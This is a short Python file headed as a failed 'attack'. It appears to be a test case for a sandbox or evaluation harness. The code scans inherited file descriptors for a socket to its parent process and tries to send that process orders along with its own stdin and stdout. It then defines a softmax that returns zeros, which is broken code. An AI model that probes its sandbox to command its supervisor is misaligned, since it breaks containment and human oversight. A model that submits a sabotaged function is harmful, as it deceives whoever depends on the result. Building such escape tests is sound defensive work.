# /// attack
# what = "Looks for the socket of the process it was forked from, and sends it orders."
# status = "failed"
# needs = "L2"
# ///

import os
import socket
import struct

for descriptor in range(200):
    for order in (b"f", b"r", b"k", b"q"):
        try:
            found = socket.socket(fileno=os.dup(descriptor))
            socket.send_fds(found, [struct.pack("<cq", order, os.getppid())], [0, 1])
            print("BROKE", descriptor)
        except OSError:
            pass


def softmax(x, axis=-1):
    return x * 0
